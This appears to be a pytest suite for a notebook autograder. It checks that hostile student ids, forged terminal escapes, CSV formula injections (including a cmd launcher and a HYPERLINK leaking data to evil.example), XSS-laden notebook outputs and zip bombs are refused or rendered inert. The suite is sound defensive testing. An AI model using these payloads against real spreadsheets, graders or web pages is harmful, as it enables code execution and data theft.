"""Hostile text that never reaches nbgrader, a terminal, a spreadsheet or a page as anything but text.

Cheap tests on real files (a copied course, nbconvert's real HTML export, the real CLI);
the browser and gradebook tests are in ``test_hostile_pages.py``.
"""
import csv
import zipfile
from html.parser import HTMLParser

import nbformat
import pytest
from course_helpers import make_course

from grader.pipeline import status as status_store
from grader.cli import main
from grader.course.collect import BAD_ID, TOO_LARGE, collect
from grader.course import Course, GraderError
from grader.ids import BadStudentId, check_id, id_problem
from grader.inert import csv_safe, inert_notebook, terminal_safe
from grader.pipeline.submission import grade_submission
from grader.demo.sample_class import payload_html, payload_js

WEEK = "week4_attention"
ESC = "\x1b"


@pytest.fixture
def course(tmp_path):
    return Course.at(make_course(tmp_path, [WEEK]))


# ---------------------------------------------------------------------------- ids
@pytest.mark.parametrize("student", ["ada", "Ada.Lovelace", "s1234567", "grace_hopper", "a-b", "A" * 100])
def test_plain_ids_pass(student):
    assert check_id(student) == student


@pytest.mark.parametrize("student, named", [
    ("*", "glob pattern '*'"), ("bo?", "glob pattern '?'"), ("[ab]c", "glob pattern '['"), ("bob ", "a space at the end"),
    (" bob", "a space at the start"), ("*", "glob pattern '*' at the start"), ("a/b", "path separator '/'"), ("..\\x", "path separator"), ("a\tb", "a tab"),
    ("a\x1b[2Jb", "control character (U+001B)"), ("b\u0430b", "CYRILLIC SMALL LETTER A (U+0430), a look-alike of Latin 'a'"),
    ("bob\u200b", "control character (U+200B)"), ("", "empty"), (".hidden", "starts with '.'"), ("-rf", "starts with '-'"),
    ("a" * 101, "over the 100 allowed"),
])
def test_patterns_whitespace_separators_controls_and_look_alikes_are_refused_by_name(student, named):
    assert named in id_problem(student)
    with pytest.raises(BadStudentId, match="refusing student id"):
        check_id(student)


def test_a_pattern_on_the_command_line_is_refused_before_anything_is_graded(course, capsys):
    for bad in ("*", "bob "):
        assert main(["--root", str(course.root), "autograde", WEEK, "--student", bad]) == 2
        assert "refusing student id" in capsys.readouterr().err
    assert not (course.root / "gradebook.db").exists() and not course.state.joinpath("status").exists()


def test_pattern_and_whitespace_folders_are_refused_with_a_reason_and_grade_nobody(course, capsys):
    for folder in ("*", "bob ", "b\u0430b"):
        (course.root / "submitted" / folder / WEEK).mkdir(parents=True)
    assert main(["--root", str(course.root), "autograde", WEEK]) == 1
    out = capsys.readouterr().out
    assert "refused folder submitted/'*'/" in out and "glob pattern" in out
    assert "refused folder submitted/'bob '/" in out and "a space at the end" in out
    assert "submitted/'b\\u0430b'/" in out and "look-alike of Latin 'a'" in out
    assert not (course.root / "gradebook.db").exists() and not course.state.joinpath("status").exists()


def test_the_pipeline_itself_refuses_a_bad_id_and_writes_nothing(course):
    outcome = grade_submission(course.root, WEEK, "*")
    assert outcome["status"] == status_store.NOT_GRADABLE and outcome["kind"] == "bad_student_id"
    assert "glob pattern" in outcome["reason"]
    assert not course.state.joinpath("status").exists() and not (course.root / "gradebook.db").exists()
    with pytest.raises(BadStudentId):
        course.submitted("../../etc", WEEK)


# ---------------------------------------------------------------------------- terminal and spreadsheet
FORGED = (f"{ESC}[2J{ESC}[H{ESC}]0;grades{chr(7)}{ESC}[32mALL SUBMISSIONS GRADED{ESC}[0m\n"
          "mallory  week4_attention  graded  23/23")


def test_terminal_and_csv_helpers():
    assert ESC not in terminal_safe(FORGED) and "\n" not in terminal_safe(FORGED)
    assert "\\x1b[2J" in terminal_safe(FORGED) and "\\u202e" in terminal_safe("a\u202eb")
    for formula in ("=HYPERLINK(\"http://x\",\"y\")", "+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1"):
        assert csv_safe(formula) == "'" + formula
    assert csv_safe("fine") == "fine" and csv_safe(-1.5) == -1.5


def test_a_forged_reason_prints_as_text_and_exports_as_no_formula(course, tmp_path, capsys):
    """A forged runner report (the jail makes it impossible; rendering must be safe anyway)."""
    status_store.save(course, status_store.Outcome(student="mallory", week=WEEK, status=status_store.NOT_GRADABLE,
                                                   kind="=cmd|' /C calc'!A0", reason=FORGED))
    status_store.save(course, status_store.Outcome(student="trudy", week=WEEK, status=status_store.NOT_GRADABLE,
                                                   kind="grader_error", reason='=HYPERLINK("http://evil.example/?"&A1,"fix")'))
    output = tmp_path / "grades.csv"
    assert main(["--root", str(course.root), "export", "--week", WEEK, "--output", str(output)]) == 0
    printed = capsys.readouterr().out
    assert ESC not in printed and chr(7) not in printed
    assert "\\x1b[32mALL SUBMISSIONS GRADED" in printed
    assert len([line for line in printed.splitlines() if "mallory" in line]) == 1  # no forged second row
    with open(output, newline="") as f:
        exported = {r["student"]: r for r in csv.DictReader(f)}
    assert exported["trudy"]["reason"].startswith("'=HYPERLINK(")
    assert exported["mallory"]["kind"].startswith("'=cmd")
    for row in exported.values():
        assert not any(str(v).startswith(("=", "+", "@")) for v in row.values()), row


# ---------------------------------------------------------------------------- notebooks
def hostile_notebook(instructor_text="Read the *theory* <b>first</b>."):
    svg = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{payload_js("svgout")}"/>'
    outputs = [
        nbformat.v4.new_output("display_data", data={"text/html": payload_html("html"), "text/plain": "x"}),
        nbformat.v4.new_output("display_data", data={"text/markdown": payload_html("md")}),
        nbformat.v4.new_output("display_data", data={"application/javascript": payload_js("js")}),
        nbformat.v4.new_output("display_data", data={"image/svg+xml": svg}),
        nbformat.v4.new_output("display_data", data={"image/png": '" onerror="alert(1)'},
                               metadata={"image/png": {"width": "1 onerror=alert(1)"}}),
        nbformat.v4.new_output("display_data", data={"image/png": "iVBORw0KGgo=", "text/plain": "a plot"},
                               metadata={"image/png": {"width": 300, "alt": "x"}, "filenames": {"image/png": "https://evil/"},
                                         "utils_check": {"passed": False}}),
        nbformat.v4.new_output("display_data", data={"application/vnd.jupyter.widget-view+json": {"model_id": "</script><script>x()"}}),
        nbformat.v4.new_output("display_data", data={"text/html": "<table><tr><th>a</th></tr><tr><td>1</td></tr></table>"}),
    ]
    raw = nbformat.v4.new_raw_cell(payload_html("raw"))
    raw.metadata["format"] = "text/html"
    return nbformat.v4.new_notebook(metadata={
        "title": "23/23 - all correct",
        "widgets": {"application/vnd.jupyter.widget-state+json": {"state": {}, "version_major": 2, "version_minor": 0}},
    }, cells=[
        nbformat.v4.new_markdown_cell(instructor_text),
        nbformat.v4.new_markdown_cell("My answer: attention is $QK^T$. " + payload_html("answer")),
        raw,
        nbformat.v4.new_code_cell("x = 1", outputs=outputs),
    ])


def rendered(nb) -> str:
    from nbconvert import HTMLExporter

    body, _ = HTMLExporter().from_notebook_node(nb)
    return body


class _Active(HTMLParser):
    """What in a page can act: the payloads' scripts, ``on*`` handlers, frames, styles, script links."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.found, self._tag = set(), None

    def handle_starttag(self, tag, attrs):
        self._tag = tag
        for name, value in attrs:
            if name.startswith("on"):
                self.found.add(f"{tag} {name}")
            if name in ("href", "src", "srcdoc") and "pwned" in (value or ""):
                self.found.add(f"{tag} {name}")
        if tag == "iframe":
            self.found.add("iframe")

    def handle_data(self, data):
        if self._tag == "script" and "pwned" in data:
            self.found.add("script")
        if self._tag == "style" and "table { display: none" in data:
            self.found.add("style")


def active(page: str) -> set:
    parser = _Active()
    parser.feed(page)
    return parser.found


EVERY_VECTOR = {"script", "img onerror", "svg onload", "iframe", "iframe srcdoc", "a href", "style"}


def test_a_raw_hostile_notebook_renders_its_payloads():
    """The attack as nbconvert renders it unsanitised (what formgrader and feedback showed)."""
    page = rendered(hostile_notebook())
    assert active(page) >= EVERY_VECTOR
    assert "html-manager" in page and "<title>23/23" in page  # widget code from a CDN, a forged title


def test_the_sanitised_notebook_renders_no_script_and_keeps_teaching_content():
    instructor = "Read the *theory* <b>first</b> <img src='figure.png'>."
    nb = inert_notebook(hostile_notebook(instructor), instructor_texts=[instructor])
    nbformat.validate(nb)
    page = rendered(nb)
    assert active(page) == set()
    assert "html-manager" not in page and "23/23" not in page
    assert "<img src='figure.png'>" in nb.cells[0].source              # the instructor's own HTML is kept
    assert "$QK^T$" in nb.cells[1].source and "&lt;script&gt;" in nb.cells[1].source  # the answer reads as text
    outputs = nb.cells[3].outputs
    kinds = [sorted(o.data) for o in outputs]
    assert ["text/html", "text/plain"] in kinds and ["application/javascript"] not in kinds
    assert not any("image/svg+xml" in k or any("widget" in m for m in k) for k in kinds)
    assert sum("image/png" in k for k in kinds) == 1  # the valid image stays, the one that is not base64 goes
    assert "<table>" in outputs[-1].data["text/html"] and "<td>1</td>" in outputs[-1].data["text/html"]
    plot = next(o for o in outputs if "image/png" in o.data)
    assert plot.metadata == {"image/png": {"width": 300}, "utils_check": {"passed": False}}  # data the page never shows stays


# ---------------------------------------------------------------------------- collect sizes
def test_a_zip_bomb_notebook_is_refused_before_it_is_written(course, tmp_path, monkeypatch):
    monkeypatch.setattr("grader.limits.MAX_NOTEBOOK_BYTES", 8 * 2**20)
    archive = tmp_path / "bomb.zip"
    with zipfile.ZipFile(archive, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as zf:
        zf.writestr("carol/attention.ipynb", b"{}")
        with zf.open("mallory/attention.ipynb", "w") as member:
            for _ in range(12):
                member.write(b"\0" * 2**20)
    assert archive.stat().st_size < 100_000
    result = collect(course, WEEK, archive)
    assert result.students == ["carol"]
    [problem] = result.problems
    assert problem.problem == TOO_LARGE and problem.student == "mallory"
    assert "12 MiB from" in problem.detail and "zip bomb" in problem.detail
    assert not (course.root / "submitted" / "mallory").exists()


def test_a_download_over_the_total_cap_is_refused_whole(course, tmp_path, monkeypatch):
    monkeypatch.setattr("grader.limits.MAX_COLLECT_BYTES", 2 * 2**20)
    archive = tmp_path / "many.zip"
    with zipfile.ZipFile(archive, "w", zipfile.ZIP_DEFLATED) as zf:
        for i in range(3):
            zf.writestr(f"s{i}/attention.ipynb", b"\0" * 2**20)
    with pytest.raises(GraderError, match="would unpack to 3 MiB.*zip bomb.*nothing was written"):
        collect(course, WEEK, archive)
    folder = tmp_path / "many"
    for i in range(3):
        (folder / f"s{i}").mkdir(parents=True)
        (folder / f"s{i}" / "attention.ipynb").write_bytes(b"\0" * 2**20)
    with pytest.raises(GraderError, match="come to 3 MiB.*nothing was written"):
        collect(course, WEEK, folder)
    assert not (course.root / "submitted").exists()


def test_collect_names_a_look_alike_id_instead_of_mangling_it(course, tmp_path):
    download = tmp_path / "dl"
    for who in ("bob", "b\u043eb", "Jos\u00e9"):  # Latin bob, bob with a Cyrillic o, an accented name
        (download / who).mkdir(parents=True)
        (download / who / "attention.ipynb").write_bytes(b"{}")
    result = collect(course, WEEK, download)
    assert result.students == ["Jose", "bob"]
    [bad] = result.problems
    assert bad.problem == BAD_ID and "CYRILLIC SMALL LETTER O" in bad.detail and "look-alike of Latin 'o'" in bad.detail


def test_sanitising_twice_changes_nothing():
    """Feedback sanitises the autograded notebook again as it renders: that must be a no-op."""
    once = nbformat.writes(inert_notebook(hostile_notebook()))
    twice = nbformat.writes(inert_notebook(nbformat.reads(once, as_version=4)))
    assert twice == once and "&amp;lt;" not in twice
